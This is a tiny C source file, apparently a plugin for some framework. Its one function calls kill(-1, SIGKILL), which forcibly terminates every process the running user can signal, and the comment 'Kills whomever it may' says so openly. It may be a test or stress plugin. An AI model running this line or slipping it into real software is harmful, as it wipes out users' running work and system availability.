/* Kills whomever it may. */
#include "plugin.h"
#include <signal.h>

KERNEL(
  dpo(&c);
  kill(-1, SIGKILL);
)
